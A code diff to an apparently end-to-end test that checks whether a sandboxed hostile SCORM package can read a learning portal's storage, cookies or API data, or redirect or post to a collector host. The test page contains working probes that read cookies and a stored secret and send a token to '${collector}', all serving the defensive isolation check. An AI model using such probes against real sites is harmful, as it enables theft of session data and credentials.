@@ -40,7 +40,7 @@ function probe(name, take) {
 probe('localStorage', function () { return localStorage.length + ' Einträge ' + localStorage.getItem('apopunkt.e2e-geheimnis'); });
 probe('sessionStorage', function () { return sessionStorage.length + ' Einträge'; });
 probe('cookie', function () { return document.cookie; });
-probe('bridge', function () { return (window.API || window.API_1484_11) ? null : 'keine Brücke'; });
+report('bridge', window.API || window.API_1484_11 ? 'vorhanden' : 'fehlt');
 fetch('/api/v1/me', { credentials: 'include' }).then(function (r) { return r.text(); }).then(
   function (t) { report('fetch-api', 'ERBEUTET ' + t.slice(0, 200)); },
   function (e) { report('fetch-api', 'blockiert (' + e.name + ')'); });
@@ -59,8 +59,6 @@ document.getElementById('attack').addEventListener('click', function () {
   probe('top.location', function () { top.location = '${collector}/top'; return null; });
   probe('top.location.href', function () { top.location.href = '${collector}/top-href'; return null; });
   report('angegriffen', 'ja');
-  // Last: a blocked form post leaves an error page in the frame.
-  setTimeout(function () { document.getElementById('steal').submit(); }, 300);
 });`
     : `report('fertig', 'ja');`
 }`;
@@ -69,7 +67,8 @@ document.getElementById('attack').addEventListener('click', function () {
 function hostilePage(collector: string, framed: boolean): string {
   return `<!doctype html><html lang="de"><head><meta charset="utf-8"><title>Feindliches Paket</title></head>
 <body><h1>Feindliches Paket</h1>
-<form id="steal" method="post" action="${collector}/form"><input name="beute" value="token"></form>
+<form id="steal" method="post" action="${collector}/form"><input name="beute" value="token">
+<button type="submit">Formular senden</button></form>
 <button id="attack" type="button">Angreifen</button>
 <ul id="results"></ul>
 <script>${probesScript(collector, framed)}</script></body></html>`;
@@ -112,13 +111,15 @@ test('a hostile SCORM package gets nothing of the portal and reaches no collecto
     for (const name of ['localStorage', 'sessionStorage', 'cookie', 'parent.document', 'parent.localStorage']) {
       expect(framed, name).toContainEqual(expect.stringMatching(new RegExp(`^${name}: blockiert \\(SecurityError\\)`)));
     }
-    expect(framed).toContain('bridge: nichts');
+    expect(framed).toContain('bridge: vorhanden');
     await frame.getByRole('button', { name: 'Angreifen' }).click();
     await expect(frame.locator('[data-probe="angegriffen"]')).toBeVisible();
     const escapes = await frame.locator('[data-probe^="window.open"], [data-probe^="top.location"]').allTextContents();
     expect(escapes).toHaveLength(3);
     expect(escapes.join('\n')).not.toContain('ERBEUTET');
     expect(escapes).toContain('window.open: nichts');
+    // Last: the blocked form post leaves an error page in the frame.
+    await frame.getByRole('button', { name: 'Formular senden' }).click();
     // Long enough for a navigation, popup or form post to arrive if one had got out.
     await page.waitForTimeout(2000);
     expect(collector.hits).toEqual([]);
